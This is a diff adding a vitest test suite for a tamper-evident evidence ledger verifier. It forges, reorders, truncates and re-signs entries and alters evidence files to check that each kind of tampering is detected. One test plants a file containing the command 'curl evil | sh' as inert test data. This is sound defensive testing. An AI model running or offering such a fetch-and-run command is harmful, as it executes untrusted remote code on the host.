@@ -1,0 +1,222 @@
+import { generateKeyPairSync } from 'node:crypto';
+import { appendFile, mkdir, readFile, rm, truncate, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { LedgerEntry } from '../../src/core/ports.js';
+import { canonicalize } from '../../src/custody/canonical-json.js';
+import { hashEntry, sealEntry } from '../../src/custody/entry.js';
+import { signManifest, type Manifest } from '../../src/custody/manifest.js';
+import { signingKeyFrom } from '../../src/custody/signing-key.js';
+import { openCase, renderReport, verifyCase, type CaseHandle } from '../../src/custody/index.js';
+import { buildClosedCase, caseOptions, makeScratch, type Scratch } from './helpers.js';
+
+// The case built by buildClosedCase: 1 case.opened, 2 credentials.assumed, 3-4 evidence.stored,
+// 5 snapshot.requested, 6 snapshot.created, 7-8 artifact.recorded, 9 step.failed, 10 case.closed.
+const LOG = 'evidence/ev-aaaaaaaaaaaa/console-output.log';
+
+describe('verify', () => {
+  let scratch: Scratch;
+  let kase: CaseHandle;
+  let ledgerPath: string;
+  let lines: string[];
+
+  const writeLines = (next: string[]) => writeFile(ledgerPath, `${next.join('\n')}\n`);
+  const entryAt = (index: number) => JSON.parse(lines[index]!) as LedgerEntry;
+  const attackerKey = () => signingKeyFrom(generateKeyPairSync('ed25519').privateKey);
+
+  beforeEach(async () => {
+    scratch = await makeScratch();
+    kase = await buildClosedCase(scratch);
+    ledgerPath = join(kase.caseDir, 'ledger.jsonl');
+    lines = (await readFile(ledgerPath, 'utf8')).trimEnd().split('\n');
+    expect(lines).toHaveLength(10);
+  });
+  afterEach(async () => {
+    await scratch.cleanup();
+  });
+
+  it('an untouched closed case verifies: every entry, signature and file', async () => {
+    const result = await verifyCase(kase.caseDir);
+    expect(result).toMatchObject({
+      ok: true,
+      closed: true,
+      caseId: 'IR-2026-0042',
+      entries: 10,
+      publicKey: kase.publicKey,
+      fingerprint: kase.fingerprint,
+      evidence: { files: 2, verified: 2, artifacts: 1 },
+      problems: [],
+      warnings: [],
+    });
+    expect(result.firstProblem).toBeUndefined();
+  });
+
+  it('a changed byte in an entry is named by its seq', async () => {
+    const next = [...lines];
+    next[4] = next[4]!.replace('vol-0123', 'vol-0124');
+    await writeLines(next);
+    const result = await verifyCase(kase.caseDir);
+    expect(result.ok).toBe(false);
+    expect(result.firstProblem).toMatchObject({ kind: 'hash-mismatch', entrySeq: 5, line: 5 });
+  });
+
+  it('a removed entry is named where the sequence jumps', async () => {
+    await writeLines(lines.filter((_, i) => i !== 4));
+    const result = await verifyCase(kase.caseDir);
+    expect(result.firstProblem).toMatchObject({ kind: 'seq-mismatch', entrySeq: 6, line: 5 });
+    expect(result.firstProblem?.message).toMatch(/entries 5\.\.5 are missing/);
+  });
+
+  it('an inserted entry forged without the case key is named at its line', async () => {
+    const previous = entryAt(3);
+    const forged = sealEntry(
+      { seq: 5, time: previous.time, type: 'snapshot.deleted', actor: 'mallory', data: { snapshotId: 'snap-0001' }, prev: previous.hash },
+      attackerKey(),
+    );
+    await writeLines([...lines.slice(0, 4), canonicalize(forged), ...lines.slice(4)]);
+    const result = await verifyCase(kase.caseDir);
+    expect(result.firstProblem).toMatchObject({ kind: 'bad-signature', entrySeq: 5, line: 5 });
+    expect(result.problems.map((p) => [p.kind, p.line])).toContainEqual(['seq-mismatch', 6]);
+  });
+
+  it('a replayed copy of a genuine entry is named as out of sequence', async () => {
+    await writeLines([...lines.slice(0, 6), lines[2]!, ...lines.slice(6)]);
+    const result = await verifyCase(kase.caseDir);
+    expect(result.firstProblem).toMatchObject({ kind: 'seq-mismatch', entrySeq: 3, line: 7 });
+  });
+
+  it('reordered entries are named at the first line out of order', async () => {
+    const next = [...lines];
+    [next[4], next[5]] = [next[5]!, next[4]!];
+    await writeLines(next);
+    const result = await verifyCase(kase.caseDir);
+    expect(result.firstProblem).toMatchObject({ kind: 'seq-mismatch', entrySeq: 6, line: 5 });
+  });
+
+  it('a ledger cut short is caught against the signed manifest head', async () => {
+    await writeLines(lines.slice(0, 8));
+    const result = await verifyCase(kase.caseDir);
+    expect(result.ok).toBe(false);
+    expect(result.firstProblem).toMatchObject({ kind: 'truncated', entrySeq: 9 });
+    expect(result.firstProblem?.message).toMatch(/ends at entry 8 .* head as entry 10/);
+  });
+
+  it('a last line cut mid-write is named', async () => {
+    const full = await readFile(ledgerPath);
+    await truncate(ledgerPath, full.length - 40);
+    const result = await verifyCase(kase.caseDir);
+    expect(result.firstProblem).toMatchObject({ kind: 'partial-line', line: 10 });
+  });
+
+  it('a flipped byte in evidence/… is named by verify', async () => {
+    const path = join(kase.caseDir, LOG);
+    const bytes = await readFile(path);
+    bytes[0] = bytes[0]! ^ 0x01;
+    await writeFile(path, bytes);
+    const result = await verifyCase(kase.caseDir);
+    expect(result.firstProblem).toMatchObject({ kind: 'changed-file', path: LOG, entrySeq: 4 });
+    expect(result.evidence.verified).toBe(1);
+  });
+
+  it('a missing evidence file is named', async () => {
+    await rm(join(kase.caseDir, LOG));
+    const result = await verifyCase(kase.caseDir);
+    expect(result.firstProblem).toMatchObject({ kind: 'missing-file', path: LOG });
+  });
+
+  it('a file slipped into evidence/ without a ledger entry is named', async () => {
+    await writeFile(join(kase.caseDir, 'evidence/ev-aaaaaaaaaaaa/planted.sh'), 'curl evil | sh');
+    await mkdir(join(kase.caseDir, 'evidence/ev-ffffffffffff/deeper'), { recursive: true });
+    await writeFile(join(kase.caseDir, 'evidence/ev-ffffffffffff/deeper/x.bin'), 'x');
+    const result = await verifyCase(kase.caseDir);
+    expect(result.problems.map((p) => [p.kind, p.path])).toEqual([
+      ['unrecorded-file', 'evidence/ev-aaaaaaaaaaaa/planted.sh'],
+      ['unrecorded-file', 'evidence/ev-ffffffffffff/deeper/x.bin'],
+    ]);
+  });
+
+  it('an entry rewritten and re-signed with another key fails its signature', async () => {
+    const original = entryAt(4);
+    const { hash: _h, sig: _s, ...rest } = original;
+    const rewritten = sealEntry({ ...rest, data: { volumeId: 'vol-decoy' } }, attackerKey());
+    expect(hashEntry(rewritten)).toBe(rewritten.hash);
+    const next = [...lines];
+    next[4] = canonicalize(rewritten);
+    await writeLines(next);
+    const result = await verifyCase(kase.caseDir);
+    expect(result.firstProblem).toMatchObject({ kind: 'bad-signature', entrySeq: 5 });
+  });
+
+  it('a changed manifest fails its signature', async () => {
+    const path = join(kase.caseDir, 'manifest.json');
+    const manifest = JSON.parse(await readFile(path, 'utf8')) as Manifest;
+    manifest.files[0]!.sha256 = '0'.repeat(64);
+    await writeFile(path, JSON.stringify(manifest, null, 2));
+    const result = await verifyCase(kase.caseDir);
+    expect(result.firstProblem).toMatchObject({ kind: 'manifest-signature', path: 'manifest.json' });
+  });
+
+  it('bytes changed outside the hashed values (whitespace in a line) are named', async () => {
+    const next = [...lines];
+    next[5] = next[5]!.replace('{"actor"', '{ "actor"');
+    await writeLines(next);
+    const result = await verifyCase(kase.caseDir);
+    expect(result.firstProblem).toMatchObject({ kind: 'non-canonical-line', entrySeq: 6 });
+  });
+
+  it('a ledger and manifest wholly re-signed with another key pass alone, and fail against the known key', async () => {
+    const key = attackerKey();
+    let prev = '0'.repeat(64);
+    const forged = lines.map((line, i) => {
+      const { hash: _h, sig: _s, ...rest } = JSON.parse(line) as LedgerEntry;
+      const data = i === 0 ? { ...rest.data, publicKey: key.publicKey } : rest.data;
+      const entry = sealEntry({ ...rest, data, prev }, key);
+      prev = entry.hash;
+      return entry;
+    });
+    await writeLines(forged.map((e) => canonicalize(e)));
+    const manifestPath = join(kase.caseDir, 'manifest.json');
+    const { signature: _sig, ...manifest } = JSON.parse(await readFile(manifestPath, 'utf8')) as Manifest;
+    const last = forged.at(-1)!;
+    await writeFile(manifestPath, JSON.stringify(signManifest({ ...manifest, publicKey: key.publicKey, ledgerHead: { seq: last.seq, hash: last.hash } }, key)));
+
+    // Internally consistent: only a key fingerprint kept elsewhere exposes the forgery.
+    expect((await verifyCase(kase.caseDir)).ok).toBe(true);
+    const result = await verifyCase(kase.caseDir, { expectedPublicKey: kase.publicKey });
+    expect(result.firstProblem).toMatchObject({ kind: 'key-mismatch', entrySeq: 1 });
+  });
+
+  it('a case that was never closed verifies, with a warning that it is not closed', async () => {
+    const open = await openCase(caseOptions(scratch, { caseId: 'IR-2026-0043' }));
+    await open.storeEvidence({ evidenceId: 'ev-1', name: 'a.json', kind: 'k', source: 's', content: '{}' });
+    await open.release();
+    const result = await verifyCase(open.caseDir);
+    expect(result.ok).toBe(true);
+    expect(result.closed).toBe(false);
+    expect(result.warnings.map((w) => w.kind)).toEqual(['not-closed']);
+  });
+
+  it('a manifest put back after the case was resumed is reported as stale', async () => {
+    const manifestPath = join(kase.caseDir, 'manifest.json');
+    const oldManifest = await readFile(manifestPath, 'utf8');
+    const resumed = await openCase(caseOptions(scratch, { resume: true }));
+    await resumed.release();
+    await writeFile(manifestPath, oldManifest);
+    const result = await verifyCase(kase.caseDir);
+    expect(result.firstProblem).toMatchObject({ kind: 'manifest-stale', entrySeq: 11 });
+  });
+
+  it('ignores the reports at the case root and only warns about other stray files', async () => {
+    await renderReport(kase.caseDir);
+    await appendFile(join(kase.caseDir, 'notes.txt'), 'analyst scribbles');
+    const result = await verifyCase(kase.caseDir);
+    expect(result.ok).toBe(true);
+    expect(result.warnings.map((w) => [w.kind, w.path])).toEqual([['unknown-file', 'notes.txt']]);
+  });
+
+  it('a case folder without a ledger fails', async () => {
+    await rm(ledgerPath);
+    const result = await verifyCase(kase.caseDir);
+    expect(result.firstProblem).toMatchObject({ kind: 'ledger-missing' });
+  });
+});
